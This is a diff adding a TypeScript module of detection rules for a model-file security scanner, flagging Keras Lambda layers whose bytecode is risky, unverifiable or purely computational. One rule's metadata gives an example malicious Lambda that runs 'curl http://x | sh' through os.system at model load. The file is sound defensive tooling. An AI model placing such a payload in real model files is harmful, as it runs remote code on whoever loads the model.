@@ -1,0 +1,93 @@
+// Lambda bytecode rules (THREATS §2): risky, unverifiable, or compute-only Lambdas.
+import type { Trigger } from "../core/types.js";
+import { analyzeLambda, type LambdaPayload, type LambdaVerdict } from "../python/lambda.js";
+import { defineRule } from "./types.js";
+
+export interface LambdaSubject {
+  payload: LambdaPayload;
+  /** load for configs that rebuild the model, inference afterwards; usually "load". */
+  trigger: Trigger;
+  /** Loader versions that would execute it, as the Keras engine worked them out. */
+  affectedVersions: string[];
+  /** Layer name, for messages. */
+  layer?: string;
+}
+
+declare module "./types.js" {
+  interface Subjects {
+    "keras-lambda": LambdaSubject;
+  }
+}
+
+const verdicts = new WeakMap<LambdaSubject, LambdaVerdict>();
+export function verdictFor(s: LambdaSubject): LambdaVerdict {
+  let v = verdicts.get(s);
+  if (!v) {
+    v = analyzeLambda(s.payload);
+    verdicts.set(s, v);
+  }
+  return v;
+}
+
+function where(s: LambdaSubject): string {
+  return s.layer ? `Lambda layer "${s.layer}"` : "Lambda";
+}
+
+export const lambdaRisky = defineRule({
+  meta: {
+    id: "GW201",
+    name: "lambda-risky-code",
+    severity: "critical",
+    summary: "A Lambda's bytecode calls something with a risky capability (exec, shell, file write, network, ...).",
+    why: "Keras rebuilds a model by calling every layer, so Lambda bytecode runs at load and again on every inference. A Lambda that shells out or writes files does so while the model keeps predicting normally.",
+    example: 'Lambda(lambda x: (__import__("os").system("curl http://x | sh"), x)[1])',
+    fix: "Do not load the model. If the function is yours, replace the Lambda with a registered custom layer whose code you review.",
+    references: ["CWE-94", "CWE-502"],
+  },
+  on: {
+    "keras-lambda"(s, report) {
+      const v = verdictFor(s);
+      if (v.kind !== "risky") return;
+      report({ severity: v.severity, capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${v.message}`, evidence: v.evidence, affectedVersions: s.affectedVersions });
+    },
+  },
+});
+
+export const lambdaUnverifiable = defineRule({
+  meta: {
+    id: "GW202",
+    name: "lambda-unverifiable-code",
+    severity: "medium",
+    summary: "A Lambda carries Python bytecode whose behaviour could not be verified.",
+    why: "Executable logic from an untrusted file is suspicious until shown harmless: bytecode of an unknown Python version, undecodable bytes or a call whose target is computed at run time could do anything.",
+    example: "A Lambda whose callee is built with getattr(obj, name) from a runtime value.",
+    fix: "Review the function's source with its author, or replace the Lambda with a reviewed custom layer.",
+    references: ["CWE-94"],
+  },
+  on: {
+    "keras-lambda"(s, report) {
+      const v = verdictFor(s);
+      if (v.kind !== "unverifiable") return;
+      report({ severity: v.severity, capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${v.message}`, evidence: v.evidence, affectedVersions: s.affectedVersions });
+    },
+  },
+});
+
+export const lambdaCompute = defineRule({
+  meta: {
+    id: "GW203",
+    name: "lambda-compute-only",
+    severity: "info",
+    summary: "Inventory: a Lambda whose bytecode only does tensor math.",
+    why: "Listed so that a reviewer sees every piece of code the model carries, without raising an alarm for ordinary preprocessing.",
+    example: "Lambda(lambda x: x / 127.5 - 1.0)",
+    fix: "Nothing to do.",
+  },
+  on: {
+    "keras-lambda"(s, report) {
+      const v = verdictFor(s);
+      if (v.kind !== "compute") return;
+      report({ severity: "info", capabilities: ["compute"], trigger: s.trigger, message: `${where(s)}: ${v.message}`, evidence: v.evidence, affectedVersions: s.affectedVersions });
+    },
+  },
+});
